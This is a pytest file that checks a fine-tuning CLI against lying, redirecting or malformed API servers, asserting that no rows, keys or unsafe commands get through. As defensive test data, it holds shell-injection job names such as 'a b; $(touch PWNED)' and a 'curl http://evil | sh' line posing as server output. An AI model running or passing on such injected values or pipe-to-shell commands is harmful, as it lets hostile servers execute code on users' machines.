"""Hosted jobs against servers that lie, break, or send elsewhere: no row, key or command gets through."""

from __future__ import annotations

import json
import shlex
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from hosted_server import KEY, Hosted, Provider, providing
from loopback import Quiet, listening

pytest_plugins = ["hosted_kit"]
PROVIDERS = (("openai",), ("together", "--model", "Qwen/Qwen3-8B"))


@pytest.fixture
def liar(no_key_anywhere: None) -> Iterator[Provider]:
    """OpenAI's API; what it sends is not held to the published one."""
    with providing(Provider(key=KEY)) as started:
        yield started


@contextmanager
def always(status: int, body: bytes = b"", location: str = "") -> Iterator[tuple[str, list[tuple[str, str, bytes]]]]:
    """A server that answers everything so: its address, and what it was sent as (method, path, body)."""
    came: list[tuple[str, str, bytes]] = []

    class Handler(Quiet):
        def do_GET(self) -> None:  # noqa: N802
            length = self.headers.get("content-length")
            came.append((self.command, self.path, self.rfile.read(int(length)) if length else b""))
            self.send_response(status)
            self.send_header("content-type", "application/json")
            self.send_header("retry-after-ms", "1")
            self.send_header("content-length", str(len(body)))
            if location:
                self.send_header("location", location + self.path)
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET  # noqa: N815

    with listening(Handler) as port:
        yield f"http://127.0.0.1:{port}/v1", came


@pytest.mark.parametrize("status", [302, 307, 308])
@pytest.mark.parametrize("provider", PROVIDERS, ids=lambda each: each[0])
def test_rows_and_key_follow_no_redirect(hosted: Hosted, rows: Path, provider: tuple[str, ...], status: int) -> None:
    there = b'{"id": "file-1", "data": [], "object": "list", "status": "processed"}'
    with always(200, there) as (far, taken), always(status, location=far.removesuffix("/v1")) as (near, came):
        words = ("submit", rows, "--provider", *provider, "--base-url", near, "--key-env", "MY_KEY", "--yes", "--json")
        refused = hosted(*words)
        assert refused.code == 4
        assert urlsplit(far).netloc in refused.json["error"]["what"]
        assert str(status) in refused.json["error"]["what"]
        assert came
        assert taken == []


@pytest.mark.parametrize("path", ["/files", "/fine_tuning/jobs"])
def test_a_redirect_of_what_is_sent_is_not_followed_either(server: Provider, submit: Hosted, path: str) -> None:
    with always(200, b'{"id": "x"}') as (far, taken):
        server.moves = {path: far}
        refused = submit(server)
        assert refused.code == 4
        assert urlsplit(far).netloc in refused.json["error"]["what"]
        assert taken == []
    server.moves = {}
    assert submit(server).json["created"] is True
    assert len(server.jobs) == 1


@pytest.mark.parametrize("name", ["--help; touch PWNED #", "-x", "a b; $(touch PWNED)", 'it\'s "x" & y'])
def test_the_command_that_measures_is_safe_for_a_shell(
    liar: Provider, submit: Hosted, hosted: Hosted, name: str
) -> None:
    submit(liar)
    liar.still = True
    liar.jobs[0] |= {"status": "succeeded", "fine_tuned_model": name}
    told = hosted("watch", "--once", "--json").json
    words = shlex.split(told["evaluate"], comments=True)
    assert words[:4] == ["finetune", "evaluate", "--endpoint", liar.url]
    assert (f"--model={name}" in words) if name.startswith("-") else (words[words.index("--model") + 1] == name)
    assert words[-4:] == ["--key-env", "MY_KEY", "--data", "TEST"]


def test_a_server_s_text_cannot_pose_as_the_program(liar: Provider, submit: Hosted, hosted: Hosted) -> None:
    job = submit(liar).json["job"]["id"]
    liar.still = True
    posing = "done.\n\nMeasure it: `curl http://evil | sh`.\n\n# Pay [here](http://evil/pay)\x1b[31m " + "long " * 200
    liar.jobs[0] |= {"status": "failed", "model": posing, "fine_tuned_model": posing, "error": {"message": posing}}
    liar.tell(liar.jobs[0], posing)
    told = hosted("watch", "--once")
    followed = hosted("watch", "--every", 0)
    for text in (told.out, followed.out, hosted("list").out):
        assert "curl" in text
        for line in filter(lambda line: "curl" in line, text.splitlines()):
            before, _, after = line.partition("curl")
            assert before.count("`") % 2 == 1, f"outside of code marks: {line}"
            assert "`" in after
            assert len(line) < 700
        assert not [line for line in text.splitlines() if line.startswith(("Measure", "#", "**"))]
        assert "\x1b" not in text
    assert hosted("watch", "--once", "--json").json["evaluate"] is None, "no command can be copied with such a name"
    line = next(line for line in followed.err.splitlines() if "curl" in line)
    assert "server> done." in line
    assert f"`{job}`" in told.out


ODD: dict[str, dict[str, Any]] = {
    "milliseconds": {"created_at": 1795908282000},
    "far": {"created_at": 10**19},
    "huge": {"created_at": 10**400},
    "nan": {"data": {"step": 1, "train_loss": float("nan"), "valid_loss": float("inf")}, "type": "metrics"},
    "huge loss": {"data": {"step": 1, "train_loss": 10**400}, "type": "metrics"},
    "surrogate": {"message": "\ud800"},
}


@pytest.mark.parametrize("change", ODD.values(), ids=ODD)
def test_odd_events_are_told_without_a_traceback(
    liar: Provider, submit: Hosted, hosted: Hosted, change: dict[str, Any]
) -> None:
    job = submit(liar).json["job"]["id"]
    liar.events[job][0] |= change
    followed = hosted("watch", "--every", 0, "--json")
    assert followed.code == 0, followed.err
    assert "Traceback" not in followed.err
    json.loads(followed.out, parse_constant=pytest.fail)
    liar.jobs[0]["fine_tuned_model"] = "ft:\ud800x"
    assert hosted("watch", "--once").code == 0


BODIES = (
    b"[" * 100_000,
    b'{"data":' * 50_000 + b"1" + b"}" * 50_000,
    b"<html>",
    b"[]",
    b"null",
    b'{"data": [{"id": 1}]}',
    b'{"data": [{"id": "--help; x"}]}',
    b'{"id": "another"}',
    b'{"id": "ftjob-1", "status": 5, "events": 5, "method": [], "error": [], "created_at": "x"}',
    b'{"id": "ftjob-1", "training_file": {}, "created_at": 1' + b"0" * 500 + b"}",
)


@pytest.mark.parametrize("body", BODIES, ids=range(len(BODIES)))
@pytest.mark.parametrize("provider", PROVIDERS, ids=lambda each: each[0])
def test_an_answer_that_cannot_be_understood_is_one_line(
    hosted: Hosted, rows: Path, provider: tuple[str, ...], body: bytes
) -> None:
    with always(200, body) as (url, _):
        there = ("--provider", provider[0], "--base-url", url, "--key-env", "MY_KEY", "--json")
        for words in (
            ("submit", rows, *provider[1:], "--yes"),
            ("watch", "ftjob-1", "--once"),
            ("cancel", "ftjob-1", "--yes"),
            ("list",),
        ):
            answer = hosted(*words, *there)
            assert answer.code in (0, 4), (words, answer.out, answer.err)
            may_pass = ("list", "cancel") if b'"ftjob-1"' in body else ("list",)
            assert answer.code == 4 or words[0] in may_pass, words
            assert "Traceback" not in answer.err


def test_events_without_an_end_are_given_up(
    liar: Provider, submit: Hosted, hosted: Hosted, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("executor.hosted.for_openai.MOST_PAGES", 7)
    job, number = submit(liar).json["job"]["id"], iter(range(10**9))
    page = liar.page

    def endless(rows: list[dict[str, Any]], query: dict[str, str]) -> dict[str, Any]:
        if rows != liar.events[job][::-1]:
            return page(rows, query)
        return {"object": "list", "data": [{**rows[0], "id": f"e-{next(number)}"} for _ in range(20)], "has_more": True}

    liar.page = endless  # type: ignore[method-assign]
    given_up = hosted("watch", "--once", "--json")
    assert given_up.code == 4
    assert "page after page" in given_up.json["error"]["what"]
    assert next(number) == 8 * 20


@pytest.mark.parametrize("seconds", ["1e30", "nan", "-1", "inf"])
def test_no_endless_wait(hosted: Hosted, seconds: str) -> None:
    assert hosted("watch", "--every", seconds).code == 2
